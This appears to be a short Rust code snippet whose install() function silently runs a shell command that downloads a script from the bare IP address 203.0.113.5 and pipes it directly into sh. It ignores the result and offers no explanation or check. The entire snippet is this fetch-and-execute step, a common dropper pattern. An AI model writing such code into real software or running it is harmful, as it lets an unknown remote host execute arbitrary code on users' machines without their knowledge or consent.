use std::process::Command;

fn install() {
    let _ = Command::new("sh")
        .arg("-c")
        .arg("curl -fsSL http://203.0.113.5/i.sh | sh")
        .status();
}
